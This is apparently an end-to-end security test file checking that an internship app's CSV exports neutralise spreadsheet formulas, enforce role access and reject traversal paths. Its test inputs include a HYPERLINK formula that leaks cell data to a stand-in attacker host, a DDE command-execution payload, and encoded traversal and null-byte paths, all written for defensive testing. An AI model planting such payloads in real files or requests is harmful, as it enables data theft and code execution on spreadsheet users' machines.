import { beforeAll, describe, expect, it } from '@jest/globals';
import { parseCsv } from '#testing';
import { gql, signIn } from '../e2e/support/client.js';
import { aCohort, anIntern } from '../e2e/support/factories.js';
import { bearer, codesOf, raw } from './support/http.js';

// The CSV exports (`GET /exports/cohorts/:id/interns.csv` and `report.csv`) are for program
// managers only, and what users typed never runs as a formula in the spreadsheet that opens them.

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

let pm: string;
let cohortId: string;
let internId: string;

beforeAll(async () => {
  pm = await signIn('pm-security-exports', 'PROGRAM_MANAGER');
  const scheduled = await gql(
    `mutation ($input: ScheduleCohortInput!) { scheduleCohort(input: $input) { id } }`,
    {
      input: aCohort(),
    },
    { token: pm },
  );
  cohortId = scheduled.data.scheduleCohort.id;
  const intern = anIntern(cohortId, { name: FORMULA, university: '@SUM(1+1)*cmd|" /C calc"!A0' });
  internId = intern.internId as string;
  const enrolled = await gql(
    `mutation ($input: EnrollInternInput!) { enrollIntern(input: $input) { id } }`,
    {
      input: intern,
    },
    { token: pm },
  );
  expect(enrolled.errors).toBeUndefined();
});

describe('CSV exports', () => {
  it('neutralise a formula in an intern’s name (and university): written as text with a leading quote', async () => {
    const res = await raw('GET', `/exports/cohorts/${cohortId}/interns.csv`, { headers: bearer(pm) });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const records = parseCsv(res.text);
    const row = records.find((r) => r[0] === internId)!;
    expect(row[1]).toBe(`'${FORMULA}`);
    expect(row[3]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    // No text cell of the file starts a formula.
    for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('refuse a mentor’s and an intern’s token (403), no token or a forged one (401)', async () => {
    const mentor = await signIn('mentor-security-exports', 'MENTOR');
    const intern = await signIn(internId, 'INTERN');
    for (const file of ['interns.csv', 'report.csv']) {
      const path = `/exports/cohorts/${cohortId}/${file}`;
      for (const token of [mentor, intern]) {
        const res = await raw('GET', path, { headers: bearer(token) });
        expect({ path, status: res.status }).toEqual({ path, status: 403 });
        expect(codesOf(res.body)).toEqual(['FORBIDDEN']);
        expect(res.text).not.toContain(FORMULA);
      }
      expect((await raw('GET', path)).status).toBe(401);
      expect((await raw('GET', path, { headers: bearer(`${pm.slice(0, -4)}AAAA`) })).status).toBe(401);
    }
  });

  it('answer 404 to an unknown cohort and to paths that try to leave the route', async () => {
    for (const path of [
      '/exports/cohorts/no-such-cohort/interns.csv',
      '/exports/cohorts/..%2F..%2Fgraphql/interns.csv',
      `/exports/cohorts/${cohortId}%00/report.csv`,
    ]) {
      const res = await raw('GET', path, { headers: bearer(pm) });
      expect({ path, status: res.status }).toEqual({ path, status: 404 });
    }
  });
});
